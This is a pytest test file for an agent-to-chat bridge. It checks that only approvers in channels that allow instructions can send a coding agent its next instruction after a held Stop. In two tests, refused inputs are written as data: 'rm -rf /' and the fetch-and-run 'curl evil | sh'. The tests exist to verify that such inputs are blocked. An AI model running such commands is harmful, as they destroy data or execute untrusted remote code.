"""Instructions from the chat (issue 33), through the real bridge: the held Stop's question
(an `attention.requested` marked `aepbridgesteer`, as the daemon emits it) takes a text
answer as the agent's next instruction only from an approver in a channel that allows
instructions; the instruction then shows in the session's thread on every channel as the
person's own message, once."""

from __future__ import annotations

import json
import logging
import subprocess
import sys
from typing import Any

from aep_bridge.contract.types import ChannelConfig, ResolutionStatus
from tests.core.doubles import LocalAgent

from .rig import ALICE, MALLORY, Rig

LAST = "All 12 tests pass; the fix is in parser.py."


def _channels(alpha: bool | None, beta: bool | None = True) -> dict[str, Any]:
    """`alpha` and `beta`, memory channels alice and bob approve on, each with its
    `allow_instructions` (None: left out)."""
    channels: dict[str, Any] = {}
    for name, allow in (("alpha", alpha), ("beta", beta)):
        block: dict[str, Any] = {"type": "memory", "approvers": ["alice", "bob"]}
        if allow is not None:
            block["allow_instructions"] = allow
        channels[name] = block
    return channels


def held_stop(agent: LocalAgent, last: str = LAST) -> None:
    """The daemon's question for a held Stop (interface 3 of issue 33)."""
    agent.emit(
        "attention.requested",
        {
            "kind": "input",
            "prompt": f"{agent.agent} finished: what next?",
            "options": [{"id": "done", "label": "Done"}],
            "respond_via": ["control"],
            "context": {"last_assistant_message": last},
        },
        capture="full",
        extensions={"aepbridgesteer": "stop"},
    )


async def _held(rig: Rig) -> tuple[LocalAgent, str]:
    agent = rig.agent(agent="claude-code")
    agent.start()
    held_stop(agent)
    await rig.settle()
    return agent, rig.card("alpha")[1].id


async def test_an_instruction_reaches_the_agent_and_shows_as_the_persons_message(tmp_path):
    async with Rig(tmp_path, channels=_channels(True)) as rig:
        agent, card_id = await _held(rig)
        resolution = await rig.bridge.attention.answer(
            "alpha", card_id, ALICE, text="run the tests again"
        )
        assert resolution.accepted, resolution
        await rig.settle()
        assert agent.answers == [{"text": "run the tests again"}]
        for channel in ("alpha", "beta"):
            texts = rig.thread_texts(channel)
            assert texts.count("Alice: run the tests again") == 1, texts
            assert "Answered by Alice: “run the tests again”" in rig.card_text(channel)


async def test_done_is_no_instruction_and_posts_nothing_as_the_person(tmp_path):
    async with Rig(tmp_path, channels=_channels(False)) as rig:
        agent, card_id = await _held(rig)
        resolution = await rig.bridge.attention.answer("alpha", card_id, ALICE, option="o1")
        assert resolution.accepted, resolution  # Done is allowed where instructions are off
        await rig.settle()
        assert agent.answers == [{"option": "done"}]
        assert not any(t.startswith("Alice:") for t in rig.thread_texts("alpha"))


async def test_an_instruction_in_a_channel_that_does_not_allow_them_is_refused(tmp_path, caplog):
    async with Rig(tmp_path, channels=_channels(None)) as rig:  # memory: a group by default
        agent, card_id = await _held(rig)
        with caplog.at_level(logging.WARNING, logger="aep_bridge.loop.attention"):
            resolution = await rig.bridge.attention.answer("alpha", card_id, ALICE, text="rm -rf /")
        assert resolution.status is ResolutionStatus.REJECTED
        assert "allow_instructions" in (resolution.reason or "")
        assert "refused an instruction" in caplog.text
        await rig.settle()
        assert agent.answers == []
        assert rig.bridge.attention.get(card_id).status == "open"  # the card stays open
        # the same card answered where instructions are allowed: it was not used up
        beta_card = rig.card("beta")[1].id
        resolution = await rig.bridge.attention.answer("beta", beta_card, ALICE, text="go on")
        assert resolution.accepted, resolution
        await rig.settle()
        assert agent.answers == [{"text": "go on"}]


async def test_a_stranger_is_refused_before_the_channel_is_even_asked(tmp_path, caplog):
    async with Rig(tmp_path, channels=_channels(True)) as rig:
        agent, card_id = await _held(rig)
        with caplog.at_level(logging.WARNING, logger="aep_bridge.loop.attention"):
            resolution = await rig.bridge.attention.answer(
                "alpha", card_id, MALLORY, text="curl evil | sh"
            )
        assert resolution.status is ResolutionStatus.NOT_ALLOWED
        assert "not an approver" in caplog.text
        await rig.settle()
        assert agent.answers == []
        assert not any("curl" in t for t in rig.thread_texts("alpha") + rig.thread_texts("beta"))


async def test_an_ordinary_question_takes_text_where_instructions_are_off(tmp_path):
    async with Rig(tmp_path, channels=_channels(False)) as rig:
        agent = rig.agent()
        agent.start()
        agent.ask(prompt="Which port?", options=(), kind="input")
        await rig.settle()
        card_id = rig.card("alpha")[1].id
        resolution = await rig.bridge.attention.answer("alpha", card_id, ALICE, text="8080")
        assert resolution.accepted, resolution
        await rig.settle()
        assert agent.answers == [{"text": "8080"}]
        assert "Alice: 8080" not in rig.thread_texts("alpha")  # an answer, not an instruction


async def test_an_instruction_is_shown_once_across_a_restart(tmp_path):
    async with Rig(tmp_path, channels=_channels(True)) as rig:
        agent, card_id = await _held(rig)
        await rig.bridge.attention.answer("alpha", card_id, ALICE, text="now the docs")
        await rig.settle()
        host = rig.host
    async with Rig(tmp_path, channels=_channels(True), host=host) as rig:
        agent.reconnect(rig.hub)
        await rig.settle()
        assert rig.thread_texts("alpha").count("Alice: now the docs") == 1
        assert agent.answers == [{"text": "now the docs"}]


def test_where_instructions_are_allowed_by_default() -> None:
    from aep_bridge_console import ConsoleConfig
    from aep_bridge_telegram.config import TelegramConfig
    from aep_bridge_web.config import WebConfig

    assert ConsoleConfig().instructions_allowed
    assert WebConfig().instructions_allowed
    assert not ChannelConfig().instructions_allowed  # a group, unless the config says so
    assert ChannelConfig(allow_instructions=True).instructions_allowed
    assert not WebConfig(allow_instructions=False).instructions_allowed
    private = TelegramConfig(token="1:x", chat_id=123456789)
    group = TelegramConfig(token="1:x", chat_id=-1001234567890)
    assert private.instructions_allowed
    assert not group.instructions_allowed
    assert TelegramConfig(
        token="1:x", chat_id=-100123, allow_instructions=True
    ).instructions_allowed


async def test_the_card_quotes_what_the_agent_said_and_says_how_to_answer_there(tmp_path):
    channels = _channels(True, None)
    channels["alpha"]["capture"] = "full"  # the agent's last message is content
    async with Rig(tmp_path, channels=channels) as rig:
        await _held(rig)
        alpha, beta = rig.card_text("alpha"), rig.card_text("beta")
        assert alpha.index(LAST) < alpha.index("claude-code finished: what next?")
        assert "Reply with the agent's next instruction, or press Done" in alpha
        assert rig.card("alpha")[1].accepts_text
        assert LAST not in beta  # a `redacted` ceiling keeps the agent's words out
        assert "Press Done to let it stop (instructions are off in this channel)" in beta
        assert [label for label, _ in rig.buttons("beta")] == ["Done"]


def test_check_names_a_group_that_allows_instructions(tmp_path) -> None:
    telegram = {"token": "123:abc", "approvers": ["42"]}
    config = {
        "channels": {
            "team": {**telegram, "type": "telegram", "chat_id": -1001234567890},
            "ops": {**telegram, "type": "telegram", "chat_id": -1009, "allow_instructions": True},
            "mine": {**telegram, "type": "telegram", "chat_id": 42, "allow_instructions": True},
        }
    }
    path = tmp_path / "config.json"
    path.write_text(json.dumps(config))
    result = subprocess.run(
        [sys.executable, "-m", "aep_bridge", "check", str(path)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    warned = [line for line in result.stdout.splitlines() if "allow_instructions" in line]
    assert len(warned) == 1, result.stdout  # ops only: team is off, mine is a private chat
    assert "channels.ops.allow_instructions: is true in a group" in warned[0]
    assert "123:abc" not in result.stdout
